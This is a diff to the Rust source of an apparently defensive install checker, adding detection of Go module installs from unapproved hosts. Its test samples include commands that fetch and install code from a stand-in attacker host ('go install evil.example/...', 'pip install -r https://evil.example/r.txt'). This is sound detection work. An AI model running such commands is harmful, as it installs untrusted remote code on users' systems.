@@ -164,6 +164,7 @@ Options: `registries` are hosts of registries that may be used; `deny` are packa
         (Sample::Shell("cargo install --git https://github.com/stranger/thing"), "direct-source"),
         (Sample::Shell("yarn add stranger/thing"), "direct-source"),
         (Sample::Shell("brew install stranger/tap/thing"), "direct-source"),
+        (Sample::Shell("go install evil.example/thing@latest"), "direct-source"),
         (Sample::Shell("pip install -r https://evil.example/r.txt"), "direct-source"),
         (Sample::Shell("brew tap stranger/tap"), "new-source"),
         (Sample::Shell("sudo add-apt-repository -y ppa:stranger/ppa"), "new-source"),
@@ -207,6 +208,7 @@ Options: `registries` are hosts of registries that may be used; `deny` are packa
         Sample::Shell("npm install -g npm@latest"),
         Sample::Shell("npx create-next-app@latest web"),
         Sample::Shell("npx tsc --noEmit"),
+        Sample::Shell("npx changeset status"),
         Sample::Shell("pnpm add -Dw turbo"),
         Sample::Shell("yarn add --dev jest ts-jest"),
         Sample::Shell("bun add hono zod"),
@@ -276,6 +278,9 @@ fn install(scene: &Scene<'_>, effect: &Effect, found: &mut Found<'_>) {
         return tapped(effect, name, found);
     }
     lookalike(ecosystem, effect, name, found);
+    if ecosystem == Ecosystem::Go {
+        module(effect, name, found);
+    }
     if effect.elsewhere {
         return;
     }
@@ -297,6 +302,17 @@ fn install(scene: &Scene<'_>, effect: &Effect, found: &mut Found<'_>) {
     }
 }
 
+/// A Go module is named by where it lies.
+fn module(effect: &Effect, path: &str, found: &mut Found<'_>) {
+    let host = path.split('/').next().unwrap_or_default();
+    let registries = found.setting().patterns("registries");
+    let allowed = registries.iter().any(|allowed| pattern::matches(allowed, host));
+    if !allowed && !hosts::has_modules(host) {
+        let what = format!("installs code from {path}, on a host that is not known for modules");
+        found.add(&DIRECT_SOURCE, At::effect(effect, path), what);
+    }
+}
+
 /// A package is fetched and run.
 fn run(scene: &Scene<'_>, effect: &Effect, found: &mut Found<'_>) {
     let Some(ecosystem) = ecosystem(scene, effect) else { return };
@@ -308,6 +324,9 @@ fn run(scene: &Scene<'_>, effect: &Effect, found: &mut Found<'_>) {
     denied(effect, name, found);
     malicious(ecosystem, effect, name, found);
     lookalike(ecosystem, effect, name, found);
+    if ecosystem == Ecosystem::Go {
+        module(effect, name, found);
+    }
 }
 
 fn denied(effect: &Effect, name: &str, found: &mut Found<'_>) {
